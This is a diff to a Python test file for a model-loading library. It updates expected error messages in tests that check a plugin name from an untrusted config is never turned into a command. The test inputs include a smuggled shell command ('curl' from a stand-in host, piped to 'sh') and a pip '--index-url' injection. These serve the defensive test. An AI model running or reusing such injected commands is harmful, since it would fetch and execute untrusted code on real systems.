@@ -68,14 +68,14 @@ SEEN: tuple[dict[str, Any], ...] = (
 def test_what_a_model_sees_is_what_its_plugin_declares(
     model_folder: Path, facts: dict[str, Any], pretrained: bool
 ) -> None:
-    with pytest.raises(DataError, match="of other classes or images than digits, as it is declared here"):
+    with pytest.raises(DataError, match="with other classes or another input size than the installed digits"):
         zoo.load(config_of(model_folder, **facts), pretrained=pretrained)
 
 
 def test_a_head_of_ones_own_is_not_held_against_the_declared_classes(model_folder: Path) -> None:
     folder = config_of(model_folder, classes=["cat"] * 10)
     assert zoo.load(folder, pretrained=True, num_classes=3)(torch.randn(2, 1, 8, 8)).shape == (2, 3)
-    with pytest.raises(DataError, match="of other classes or images than digits"):
+    with pytest.raises(DataError, match="with other classes or another input size than the installed digits"):
         zoo.load(folder, pretrained=True, in_channels=2)
 
 
@@ -174,10 +174,10 @@ def test_a_strangers_recipe_beyond_reason_is_refused_when_its_folder_is_read(
     ("plugin", "named"),
     [
         ("zoo-other 2.0", "the distribution 'zoo-other'"),
-        ("evil;curl${IFS}e.x|sh 1", "no distribution that could be one"),
-        ("--index-url=http://e.x 1", "no distribution that could be one"),
-        ("a" * 101, "no distribution that could be one"),
-        ("", "no distribution that could be one"),
+        ("evil;curl${IFS}e.x|sh 1", "ask its publisher"),
+        ("--index-url=http://e.x 1", "ask its publisher"),
+        ("a" * 101, "ask its publisher"),
+        ("", "ask its publisher"),
     ],
 )
 def test_no_command_is_made_of_what_a_stranger_wrote(model_folder: Path, plugin: str, named: str) -> None:
@@ -185,6 +185,6 @@ def test_no_command_is_made_of_what_a_stranger_wrote(model_folder: Path, plugin:
     job |= {"architecture": "other", "versions": {**job["versions"], "plugin": plugin}}
     with pytest.raises(PluginError) as caught:
         zoo.load(config_of(model_folder, name="other_digits", architecture="other", job=job), pretrained=True)
-    assert f"its config.json names {named}: install it where you trust it" in str(caught.value)
+    assert named in str(caught.value)
     assert "pip" not in str(caught.value)
     assert "curl" not in str(caught.value)
